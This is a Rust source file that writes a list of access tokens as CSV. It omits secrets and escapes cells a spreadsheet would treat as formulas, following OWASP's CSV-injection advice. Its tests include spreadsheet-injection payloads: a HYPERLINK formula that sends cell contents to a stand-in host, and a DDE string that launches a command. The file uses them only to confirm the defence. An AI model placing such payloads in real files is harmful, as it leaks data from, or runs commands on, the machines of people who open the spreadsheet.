//! A list of tokens as a table for other programs.

use std::borrow::Cow;
use std::sync::Arc;

use csv::{Terminator, WriterBuilder};

use crate::model::Token;
use crate::time::{Timestamp, iso};

/// Why a list was not written.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the list could not be written ({cause})")]
pub struct ListCsvError {
    cause: String,
}

/// The columns, in order: those of the list first, then what names a token elsewhere.
const COLUMNS: [&str; 12] = [
    "number",
    "status",
    "user",
    "site",
    "note",
    "may do",
    "last used",
    "expires",
    "made",
    "invalidated",
    "generator",
    "uid",
];

/// The tokens of a list as comma-separated values, in its order, under a line with the names of the columns.
///
/// UTF-8 without a mark in front, lines end with CR LF, quotes as RFC 4180 has them. Instants are ISO 8601 in UTC; a
/// cell is empty where there is nothing to say: no note, a global token, never used, never expires, still valid.
/// A cell that a spreadsheet would take for a formula begins with an apostrophe, which shows that it is text.
/// Nothing of a secret is in it, and neither is a digest. `may_do` says in a few words what a token may do.
///
/// Linear in the list.
///
/// # Errors
///
/// [`ListCsvError`] with the writer's reason, which memory does not give.
///
/// ```
/// use tollgate_tokens::{list_csv, test_support::noon};
///
/// let csv = list_csv(&[], noon(), |_| String::new())?;
/// assert!(csv.starts_with("number,status,user,site,note,may do,"));
/// # Ok::<(), tollgate_tokens::ListCsvError>(())
/// ```
pub fn list_csv(
    tokens: &[Arc<Token>],
    now: Timestamp,
    may_do: impl Fn(&Token) -> String,
) -> Result<String, ListCsvError> {
    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(COLUMNS).map_err(refused)?;
    for token in tokens {
        let cells = cells(token, now, may_do(token));
        writer.write_record(cells.iter().map(|cell| harmless(cell).into_owned())).map_err(refused)?;
    }
    let bytes = writer.into_inner().map_err(refused)?;
    String::from_utf8(bytes).map_err(refused)
}

fn cells(token: &Token, now: Timestamp, may_do: String) -> [String; COLUMNS.len()] {
    let moment = |instant: Option<Timestamp>| instant.map(|instant| iso(&instant)).unwrap_or_default();
    [
        token.number.to_string(),
        token.status_at(now).word().to_owned(),
        token.owner.to_string(),
        token.local_site.as_ref().map(ToString::to_string).unwrap_or_default(),
        token.note.clone(),
        may_do,
        moment(token.last_used),
        moment(token.expires),
        moment(Some(token.time_added)),
        moment(token.invalid_date),
        token.generator.to_string(),
        token.uid.to_string(),
    ]
}

/// A cell that no spreadsheet computes.
///
/// Source: OWASP, "CSV Injection"; the wide signs are those that some programs take for the narrow ones.
fn harmless(cell: &str) -> Cow<'_, str> {
    let is_computed = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    if is_computed { format!("'{cell}").into() } else { cell.into() }
}

fn refused(error: impl std::fmt::Display) -> ListCsvError {
    ListCsvError { cause: error.to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checked::NewToken;
    use crate::journal::Journal as _;
    use crate::people::Powers;
    use crate::test_support::{memory_manager, noon};

    /// One token for each note.
    fn tokens(notes: &[&str]) -> Vec<Arc<Token>> {
        let manager = memory_manager();
        pollster::block_on(async {
            manager.add_user("+ci@bot".parse().unwrap(), Powers::default()).await.unwrap();
            for note in notes {
                let call = NewToken { note: (*note).into(), ..NewToken::for_owner("+ci@bot".parse().unwrap()) };
                manager.generate(call).await.unwrap();
            }
        });
        manager.journal().read(|ledger| ledger.workspace().tokens().cloned().collect())
    }

    fn rows(csv: &str) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn a_row_says_what_the_list_says_and_names_the_token() {
        let tokens = tokens(&["nightly mirror"]);
        let csv = list_csv(&tokens, noon(), |_| "Read everything".to_owned()).unwrap();
        let uid = tokens[0].uid;
        let row = format!(
            "1,Active,'+ci@bot,,nightly mirror,Read everything,,,2026-11-23T12:00:00+00:00,,vendor_checksum,{uid}\r\n"
        );
        assert_eq!(csv, format!("{}\r\n{row}", COLUMNS.join(",")));
    }

    #[test]
    fn no_note_is_computed_or_breaks_out_of_its_cell() {
        let notes = [
            "=HYPERLINK(\"http://example.com/?\"&A1)",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "a, b; \"c\"\r\nd",
            "'=already text",
            " =a space in front",
            "",
        ];
        let tokens = tokens(&notes);
        let rows = rows(&list_csv(&tokens, noon(), |_| "=1+1".to_owned()).unwrap());
        assert_eq!(rows.len(), notes.len() + 1);
        for (row, note) in rows.iter().skip(1).zip(notes) {
            let guarded = note.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']);
            assert_eq!(row[4], if guarded { format!("'{note}") } else { note.to_owned() });
            assert_eq!(row[5], "'=1+1");
            assert_eq!(row[2], "'+ci@bot");
            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])), "{row:?}");
        }
    }

    #[test]
    fn neither_a_secret_nor_its_digest_is_in_it() {
        let tokens = tokens(&["mirror"]);
        let csv = list_csv(&tokens, noon(), |_| String::new()).unwrap();
        let token = &tokens[0];
        let last_four = token.fingerprint.last_four.clone().unwrap();
        assert!(!csv.contains(&token.digest.to_string()) && !csv.contains(&last_four), "{csv}");
        assert!(!crate::scan::looks_like_token(&csv));
    }
}
